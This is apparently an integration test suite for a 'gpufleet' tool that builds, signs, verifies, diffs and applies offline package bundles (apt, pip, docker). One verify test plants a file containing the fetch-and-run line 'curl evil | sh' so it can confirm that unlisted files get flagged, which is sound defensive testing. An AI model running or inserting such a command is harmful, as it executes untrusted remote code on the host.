"""gpufleet bundle build / verify / diff / apply against real apt, pip, gpg and docker.

A small profile (Debian's ``hello``, the ``six`` wheel, a tiny docker image and a pinned file)
keeps these fast; the full lab profile is built and installed from by the Molecule airgap scenario.
"""

import hashlib
import json
import os
import shutil
import signal
import subprocess
import time

import pytest
from itest import BIN, run

IMAGE = "gpufleet-itest/tiny:1"


def sha256(path):
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def env(tmp_path_factory):
    home = tmp_path_factory.mktemp("signing")
    yield {"GPUFLEET_SIGNING_HOME": str(home)}
    run(["gpgconf", "--homedir", home, "--kill", "gpg-agent"])


def bundle(env, *args, **kw):
    return run([BIN / "gpufleet", "bundle", *args], env=env, **kw)


@pytest.fixture(scope="module")
def tiny_image(tmp_path_factory):
    root = tmp_path_factory.mktemp("img")
    (root / "hello.txt").write_text("a real, tiny image\n")
    tar = root.parent / "tiny.tar"
    subprocess.run(["tar", "-C", root, "-cf", tar, "hello.txt"], check=True)
    run(["docker", "import", tar, IMAGE], check=True)
    yield IMAGE
    run(["docker", "rmi", "-f", IMAGE])


def write_profile(
    tmp, name="small", apt=("hello",), notes="first notes\n", image=None, wheels=("six==1.17.0",)
):
    (tmp / "notes.txt").write_text(notes)
    profile = {
        "name": name,
        "target": {"os": "debian-12", "arch": "amd64"},
        "roles": ["nvidia_driver"],
        "apt": {"packages": list(apt)},
        "wheels": {"packages": list(wheels)},
        "files": [{"name": "notes.txt", "path": "notes.txt", "sha256": sha256(tmp / "notes.txt")}],
    }
    if image:
        profile["images"] = [{"name": image, "purpose": "test image"}]
    path = tmp / f"{name}.yml"
    path.write_text(json.dumps(profile))
    return path


@pytest.fixture(scope="module")
def built(env, tiny_image, tmp_path_factory):
    tmp = tmp_path_factory.mktemp("small")
    profile = write_profile(tmp, image=tiny_image)
    out = tmp / "bundle"
    proc = bundle(env, "build", profile, "-o", out, check=True)
    fpr = bundle(env, "key", "--fingerprint", check=True).stdout.strip()
    return {"profile": profile, "out": out, "fpr": fpr, "build": proc, "tmp": tmp}


def test_build_makes_a_signed_bundle_apt_and_pip_install_from(built):
    out, fpr = built["out"], built["fpr"]
    assert f"signed by {fpr}" in built["build"].stdout
    assert "apt " in built["build"].stderr and "packages" in built["build"].stderr  # the progress summary
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["schema"] == 1 and manifest["signing_key"] == fpr
    paths = {e["path"]: e for e in manifest["files"]}
    assert paths["apt/pool/hello_2.10-3_amd64.deb"]["kind"] == "apt"
    assert paths["apt/pool/hello_2.10-3_amd64.deb"]["purpose"].startswith("requested")
    assert paths["wheels/six-1.17.0-py2.py3-none-any.whl"]["sha256"] == sha256(
        out / "wheels/six-1.17.0-py2.py3-none-any.whl"
    )
    assert paths["images/gpufleet-itest_tiny_1.tar"]["kind"] == "image"
    for rel in ("apt/InRelease", "apt/Release.gpg", "keys/gpufleet-bundle.gpg", "files/notes.txt"):
        assert rel in paths
    # every file on disk is in the manifest, with its real size
    on_disk = {p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()}
    assert on_disk - {"manifest.json", "manifest.json.asc"} == set(paths)
    # apt on a Debian 12 lab system verifies InRelease against the bundle key and installs from it
    script = (
        "set -e; rm -f /etc/apt/sources.list.d/*; "
        "echo 'deb [signed-by=/b/keys/gpufleet-bundle.asc] file:/b/apt ./' > /etc/apt/sources.list.d/b.list; "
        "apt-get update 2>&1; apt-get install -y -q hello >/dev/null; hello"
    )
    proc = run(["docker", "run", "--rm", "-v", f"{out}:/b:ro", "gpufleet-lab:bookworm", "bash", "-c", script])
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "Hello, world!" in proc.stdout
    assert "NO_PUBKEY" not in proc.stdout and "not signed" not in proc.stdout
    # the wheelhouse installs with hashes required and no index
    target = built["tmp"] / "site"
    pip = [BIN / "pip", "install", "--require-hashes", "--no-index", "--find-links", out / "wheels"]
    run([*pip, "-r", out / "wheels/requirements.txt", "--target", target], check=True)
    assert (target / "six.py").is_file()
    # the saved image loads
    listing = run(["tar", "-tf", out / "images/gpufleet-itest_tiny_1.tar"], check=True).stdout
    assert "manifest.json" in listing


def test_verify_passes_then_names_every_problem(built, env, tmp_path):
    ok = bundle(env, "verify", built["out"], "--fingerprint", built["fpr"])
    assert ok.returncode == 0, ok.stdout + ok.stderr
    assert "signature good" in ok.stdout and "match their sha256" in ok.stdout
    bad = tmp_path / "bad"
    shutil.copytree(built["out"], bad)
    deb = bad / "apt/pool/hello_2.10-3_amd64.deb"
    data = bytearray(deb.read_bytes())
    data[200] ^= 0xFF
    deb.write_bytes(bytes(data))
    (bad / "wheels/requirements.txt").unlink()
    (bad / "files/smuggled.sh").write_text("curl evil | sh\n")
    with (bad / "files/notes.txt").open("r+b") as fh:
        fh.truncate(3)
    proc = bundle(env, "verify", bad, "--fingerprint", built["fpr"])
    assert proc.returncode == 1
    assert "corrupt: apt/pool/hello_2.10-3_amd64.deb" in proc.stdout
    assert "missing: wheels/requirements.txt" in proc.stdout
    assert "extra: files/smuggled.sh" in proc.stdout
    assert "truncated: files/notes.txt" in proc.stdout


def test_verify_refuses_bad_signatures(built, env, tmp_path):
    altered = tmp_path / "altered"
    shutil.copytree(built["out"], altered)
    manifest = json.loads((altered / "manifest.json").read_text())
    manifest["files"][0]["sha256"] = "0" * 64
    (altered / "manifest.json").write_text(json.dumps(manifest, indent=1) + "\n")
    proc = bundle(env, "verify", altered, "--fingerprint", built["fpr"])
    assert proc.returncode == 1 and "BADSIG" in proc.stdout and "files were not checked" in proc.stdout
    (altered / "manifest.json.asc").unlink()
    proc = bundle(env, "verify", altered, "--fingerprint", built["fpr"])
    assert proc.returncode == 1 and "manifest.json.asc is missing" in proc.stdout
    wrong = bundle(env, "verify", built["out"], "--fingerprint", "A" * 40)
    assert wrong.returncode == 1 and "is not the pinned key" in wrong.stdout
    malformed = bundle(env, "verify", built["out"], "--fingerprint", "ZZZ")
    assert malformed.returncode == 2 and "is not an OpenPGP key fingerprint" in malformed.stderr
    assert "Traceback" not in malformed.stderr
    not_a_bundle = bundle(env, "diff", tmp_path, built["out"])
    assert not_a_bundle.returncode == 2 and "is not a gpufleet bundle" in not_a_bundle.stderr


def test_build_is_deterministic_and_reruns_fetch_nothing(built, env, tmp_path):
    epoch = {"SOURCE_DATE_EPOCH": "1790000000"}
    one, two = tmp_path / "one", tmp_path / "two"
    bundle({**env, **epoch}, "build", built["profile"], "-o", one, check=True)
    bundle({**env, **epoch}, "build", built["profile"], "-o", two, check=True)
    for rel in (
        "manifest.json",
        "manifest.json.asc",
        "apt/InRelease",
        "apt/Packages",
        "apt/Packages.gz",
        "apt/Release",
        "wheels/requirements.txt",
    ):
        assert (one / rel).read_bytes() == (two / rel).read_bytes(), rel
    deb = one / "apt/pool/hello_2.10-3_amd64.deb"
    before = deb.stat().st_ino, deb.stat().st_mtime_ns
    again = bundle({**env, **epoch}, "build", built["profile"], "-o", one, check=True)
    assert "rebuilding bundle 'small' in place" in again.stderr
    assert (deb.stat().st_ino, deb.stat().st_mtime_ns) == before
    assert (one / "manifest.json").read_bytes() == (two / "manifest.json").read_bytes()


def test_build_fails_early_on_unknown_packages_and_bad_profiles(env, tmp_path):
    profile = write_profile(
        tmp_path, apt=("hello", "no-such-package-gpufleet"), wheels=("no-such-wheel-gpufleet==1.0",)
    )
    out = tmp_path / "out"
    proc = bundle(env, "build", profile, "-o", out)
    assert proc.returncode == 2
    assert "package no-such-package-gpufleet does not exist" in proc.stderr
    assert not list(out.rglob("*.deb")) and not list(out.rglob("*.whl"))
    wheel_only = write_profile(tmp_path, name="w", apt=(), wheels=("no-such-wheel-gpufleet==1.0",))
    proc = bundle(env, "build", wheel_only, "-o", tmp_path / "w")
    assert proc.returncode == 2 and "no-such-wheel-gpufleet" in proc.stderr
    (tmp_path / "bad.yml").write_text(
        "name: Bad Name\ntarget: {os: rhel-9}\nfiles: [{name: x, url: ftp://x}]\n"
    )
    proc = bundle(env, "build", tmp_path / "bad.yml", "-o", tmp_path / "b")
    assert proc.returncode == 2
    for expected in (
        "name: 'Bad Name'",
        "target.os: 'rhel-9' is not a supported target",
        "sha256 pin missing",
    ):
        assert expected in proc.stderr
    user_dir = tmp_path / "mine"
    user_dir.mkdir()
    (user_dir / "thesis.tex").write_text("keep me")
    proc = bundle(env, "build", profile, "-o", user_dir)
    assert proc.returncode == 2 and "is not a gpufleet bundle" in proc.stderr
    assert (user_dir / "thesis.tex").read_text() == "keep me"


def test_not_enough_disk_is_refused_before_downloading(env, tmp_path):
    small = tmp_path / "small-disk"
    small.mkdir()
    if run(["mount", "-t", "tmpfs", "-o", "size=2m", "tmpfs", small]).returncode != 0:
        pytest.fail("mounting a 2 MB tmpfs needs root (make integration runs as root)")
    try:
        profile = write_profile(tmp_path, name="big", apt=("nginx", "gcc-12"))
        proc = bundle(env, "build", profile, "-o", small / "out")
        assert proc.returncode == 2, proc.stderr
        assert "not enough disk space" in proc.stderr and "nothing was downloaded" in proc.stderr
        assert not list((small / "out").rglob("*.deb"))
    finally:
        run(["umount", small])


def test_interrupted_build_resumes_without_refetching(env, tmp_path):
    """Interrupted at a deterministic point: apt's download is capped (--apt-rate-limit) so that
    the large gcc-12 packages cannot land before the SIGINT, however warm the mirror is; the
    test interrupts once three .deb files are in the pool."""
    profile = write_profile(tmp_path, name="resume", apt=("gcc-12", "hello"))
    out = tmp_path / "out"
    cmd = [str(BIN / "gpufleet"), "bundle", "build", str(profile), "-o", str(out), "--apt-rate-limit", "2M"]
    proc = subprocess.Popen(
        cmd,
        env={**os.environ, **env},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        # A suite started in the background (`make test &`) inherits SIGINT ignored, and Python keeps
        # an inherited SIG_IGN: give the build the disposition an operator's Ctrl-C meets.
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
    )
    deadline = time.monotonic() + 300
    while time.monotonic() < deadline and proc.poll() is None:
        if len(list((out / "apt/pool").glob("*.deb"))) >= 3:
            break
        time.sleep(0.05)
    assert proc.poll() is None, "the rate-limited build ended before three packages landed"
    proc.send_signal(signal.SIGINT)
    _, err = proc.communicate(timeout=120)
    assert proc.returncode != 0, "the build finished before it could be interrupted"
    assert b"interrupted" in err
    assert (out / ".gpufleet-build/state.json").is_file() and not (out / "manifest.json").exists()
    kept = {p.name: p.stat().st_ino for p in (out / "apt/pool").glob("*.deb")}
    assert kept
    resumed = bundle(env, "build", profile, "-o", out, check=True)
    assert "resuming the unfinished build" in resumed.stderr
    for name, inode in kept.items():
        assert (out / "apt/pool" / name).stat().st_ino == inode, f"{name} was fetched again"
    assert not (out / ".gpufleet-build").exists()
    verify = bundle(env, "verify", out)
    assert verify.returncode == 0, verify.stdout


def test_update_bundle_carries_only_changes(built, env, tmp_path):
    profile = write_profile(tmp_path, notes="second notes\n", image=IMAGE)
    new = tmp_path / "new"
    bundle(env, "build", profile, "-o", new, check=True)
    upd = tmp_path / "update"
    proc = bundle(env, "diff", built["out"], new, "-o", upd, check=True)
    assert "~ files/notes.txt" in proc.stdout
    carried = {p.relative_to(upd).as_posix() for p in upd.rglob("*") if p.is_file()}
    assert "files/notes.txt" in carried
    assert "apt/pool/hello_2.10-3_amd64.deb" not in carried and not any(c.endswith(".whl") for c in carried)
    alone = bundle(env, "verify", upd)
    assert alone.returncode == 1 and "missing: apt/pool/hello_2.10-3_amd64.deb" in alone.stdout
    assert bundle(env, "verify", upd, "--base", built["out"]).returncode == 0
    full = tmp_path / "full"
    bundle(env, "apply", upd, "--base", built["out"], "-o", full, check=True)
    assert (full / "files/notes.txt").read_text() == "second notes\n"
    assert bundle(env, "verify", full).returncode == 0
